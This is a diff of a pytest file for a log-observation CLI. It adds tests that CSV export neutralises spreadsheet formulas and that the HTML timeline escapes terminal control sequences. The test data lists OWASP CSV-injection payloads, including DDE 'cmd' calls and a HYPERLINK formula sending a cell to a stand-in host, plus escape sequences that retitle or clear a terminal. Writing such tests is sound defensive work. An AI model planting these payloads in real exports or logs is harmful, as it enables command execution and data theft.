@@ -1,8 +1,10 @@
 """Log text reaches the operator's terminal as text: escape sequences, control characters and bidi
-overrides written by users of the nodes are shown escaped in every text output and every column,
-and kept exactly in JSON and CSV."""
+overrides written by users of the nodes are shown escaped in every text output and every column and
+in --plot's HTML, and kept exactly in JSON and CSV, where a cell a spreadsheet would run as a formula
+is marked as text."""
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
@@ -14,10 +16,13 @@ import pytest
 from typer.testing import CliRunner
 
 from observe.cli import app
+from observe.cli.analyses import _csv
 from observe.collector import Context
 from observe.ingest import parse_bytes
 from observe.printable import printable
 from observe.store import Store
+from queries.explain import Explanation
+from queries.plot import timeline_html
 
 runner = CliRunner()
 # clear screen, retitle the window (OSC ... BEL), 8-bit CSI, right-to-left override, overwrites
@@ -85,3 +90,44 @@ def test_printable_escapes_what_a_terminal_obeys_and_nothing_else() -> None:
     plain = "C:\\dir [red]x[/red] ünïcødé 日本 ✓"
     assert printable(plain) == plain
     assert printable(printable(MESSAGE)) == printable(MESSAGE)
+
+
+# cells a spreadsheet runs (OWASP's CSV injection examples), and one opening with the quote that marks them
+FORMULAS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://x.example/?\"&A1)", "'quoted", "plain -x text"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_inert(tmp_path: Path) -> None:
+    """A message opening with = + - @ (or ') comes out of --format csv with a leading ', which
+    spreadsheets show as text; dropping it gives the exact text. Other cells, and JSON, are exact."""
+    boot = datetime.now(timezone.utc) - timedelta(seconds=2000)
+    st = Store(tmp_path / "store")
+    st.write(parse_bytes("".join(f"[ {1000 + i}.000000] {m}\n" for i, m in enumerate(FORMULAS)).encode(), "kernel",
+                         Context(node="gpu001", boot_time=boot, route="kmsg")))
+    args = ["query", "--source", "kernel", "--limit", "0", "--store", str(st.root), "--format"]
+    exact = sorted(json.loads(line)["message"] for line in runner.invoke(app, [*args, "json"]).stdout.splitlines())
+    rows = list(csv.DictReader(io.StringIO(runner.invoke(app, [*args, "csv"]).stdout, newline="")))
+    assert exact == sorted(FORMULAS) and sorted(r["node"] for r in rows) == ["gpu001"] * len(FORMULAS)
+    assert sorted(r["message"] for r in rows) == sorted("'" + m if m[0] in "=+-@'" else m for m in FORMULAS)
+    assert sorted(r["message"][1:] if r["message"][0] == "'" else r["message"] for r in rows) == exact
+
+
+@pytest.mark.parametrize("cell", ["\t=1+1", "\r=1+1", "\x00=1+1"])
+def test_csv_cells_opening_with_tab_cr_or_nul_are_inert(cell: str) -> None:
+    """OWASP's advice also names tab and CR, and ASVS NUL, as a formula's first character."""
+    header, row = csv.reader(io.StringIO(_csv(pl.DataFrame({"message": [cell], "code": [-1]})), newline=""))
+    assert header == ["message", "code"] and row == ["'" + cell, "-1"]  # a negative number is no text cell
+
+
+def test_the_plot_shows_control_characters_escaped(store: str, tmp_path: Path) -> None:
+    """--plot's page (its title, lanes, marks' tooltips, verdict) shows escapes, never the raw characters."""
+    page = tmp_path / "job.html"
+    result = runner.invoke(app, ["explain", "950", "--plot", str(page), "--store", store])
+    assert result.exit_code == 0, result.output
+    assert "\\x1b[2J" in page.read_text() and not RAW.search(page.read_text())
+    when = datetime.now(timezone.utc)
+    event = {"ts": when, "node": NODE, "kind": "gpu_xid", "count": 1, "message": MESSAGE}
+    html = timeline_html(Explanation(job_id="950\x1b]0;owned\x07", state="FAILED\x9b2J", exit_code=None, nodes=[NODE],
+                                     start=when, end=when, root_cause={**event, "category": "gpu\u202e"},
+                                     timeline=[event]), {})
+    assert "<title>job 950\\x1b]0;owned\\x07: FAILED\\x9b2J</title>" in html and not RAW.search(html)
